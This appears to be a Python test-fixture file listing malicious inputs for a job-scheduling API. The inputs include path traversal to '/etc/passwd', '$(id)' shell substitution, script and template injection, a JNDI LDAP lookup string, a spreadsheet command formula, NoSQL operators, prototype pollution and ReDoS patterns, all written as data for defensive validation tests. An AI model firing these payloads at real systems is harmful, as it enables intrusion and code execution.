"""What people send who mean no good: names, texts, specs and queries, each with what it tries."""

from typing import Any

JOB: dict[str, Any] = {"name": "victim", "schedule": "@daily", "command": "true"}

#: None of these is a name, of a job or of a namespace.
NAMES = {
    "parent directory": "..",
    "path out of the prefix": "../../jobs/x",
    "path, encoded": "..%2f..%2fx",
    "slash": "a/b",
    "backslash": "a\\b",
    "NUL": "a\0b",
    "line end": "a\nb",
    "trailing line end": "a\n",
    "carriage return": "a\r\nX-Evil: 1",
    "right to left": "a\u202ebc",
    "zero width": "a\u200bb",
    "homoglyph": "\u0430dmin",
    "full width": "\uff41bc",
    "combining": "e\u0301",
    "escape sequence": "a\x1b[2J",
    "markup": "<script>alert(1)</script>",
    "quote": "a'b",
    "template": "{{7*7}}",
    "shell": "$(id)",
    "operator": "$where",
    "prototype": "__proto__",
    "upper case": "ABC",
    "too long": "a" * 129,
    "empty": "",
    "blank": " ",
    "dot first": ".hidden",
    "format": "%s%n",
}

#: Texts that are stored and must come back exactly, as text.
TEXTS = {
    "markup": "<img src=x onerror=alert(1)>",
    "script end": "</script><script>alert(1)</script>",
    "escape sequences": "\x1b]0;owned\x07\x1b[31mred\x1b[0m",
    "right to left": "safe\u202egpj.exe",
    "operator": "{$where: 'sleep(1000)'}",
    "expression": "${jndi:ldap://x/a} {{7*7}} <%= 1 %>",
    "formula": '=cmd|"/C calc"!A0',
    "header": "x\r\nSet-Cookie: a=b",
    "astral": "\U0001f4a3" * 40,
    "combining": "Z" + "\u0351" * 100,
    "separators": "a\u2028b\u2029c",
}


def deep(levels: int) -> Any:
    value: Any = "x"
    for _ in range(levels):
        value = {"a": value}
    return value


#: Bodies of `/job/save` that are no job.
SPECS: dict[str, Any] = {
    "a list": [],
    "null": None,
    "a number": 1e308,
    "unknown field": JOB | {"__proto__": {"admin": True}},
    "constructor": JOB | {"constructor": {"prototype": {}}},
    "an operator for a name": JOB | {"name": {"$ne": None}},
    "an operator for a label": JOB | {"labels": {"$where": "1"}},
    "fields of the server": JOB | {"uid": "aaaaaaaa", "generation": 99, "changed_by": "root"},
    "a huge number": JOB | {"timeout_s": 10**400},
    "a huge float": JOB | {"timeout_s": 1e400},
    "a negative number": JOB | {"timeout_s": -1},
    "a boolean number": JOB | {"timeout_s": True},
    "nested": JOB | {"labels": deep(60)},
    "lone surrogate": JOB | {"description": "\ud800"},
    "NUL in the command": JOB | {"command": "a\0b"},
    "NUL in the environment": JOB | {"env": {"A": "a\0b"}},
    "a name with an equals sign": JOB | {"env": {"A=B": "c"}},
    "loader": JOB | {"env": {"": "x"}},
    "environment of thousands": JOB | {"env": {f"V{n}": "x" for n in range(5000)}},
    "64 KiB and more": JOB | {"command": "x" * 70_000},
    "many labels": JOB | {"labels": {f"l{n}": "x" for n in range(5000)}},
    "schedule of a minute for ever": JOB | {"schedule": "*/0 * * * *"},
    "schedule of nine fields": JOB | {"schedule": "* " * 9},
    "schedule without end": JOB | {"schedule": ",".join(["1-59"] * 5000) + " * * * *"},
    "schedule in another script": JOB | {"schedule": "\u0661 * * * *"},
    "a pause beyond the calendar": JOB | {"paused_until": "9999-12-31T23:59:59-12:00"},
    "a start before the calendar": JOB | {"starts_at": "0001-01-01T00:00:00+12:00"},
    "zone as a path": JOB | {"timezone": "../../etc/passwd"},
    "zone as an absolute path": JOB | {"timezone": "/etc/passwd"},
    "zone with NUL": JOB | {"timezone": "UTC\0"},
}

#: Values of query parameters that are filters; each is answered, or refused with a pointer.
QUERIES = {
    "regular expression": "(a+)+$",
    "regular expression that never ends": "^(([a-z])+.)+[A-Z]([a-z])+$",
    "wildcards": ".*",
    "bracket": "[",
    "backslash": "\\",
    "operator": '{"$gt": ""}',
    "operator in the name": "$where",
    "function": "function(){while(1){}}",
    "NUL": "a\0b",
    "right to left": "\u202e",
    "markup": "<script>",
    "long": "a" * 256,
    # The client of the tests sends no address longer than 65,536 characters.
    "longer": "a" * 60_000,
    "number": "9" * 400,
    "negative": "-1",
    "not a number": "NaN",
    "infinite": "Infinity",
    "first instant": "0001-01-01T00:00:00%2B12:00",
    "last instant": "9999-12-31T23:59:59-12:00",
    "end of the calendar": "253402300800",
    "percent": "%",
    "not UTF-8": "%ff%fe",
}
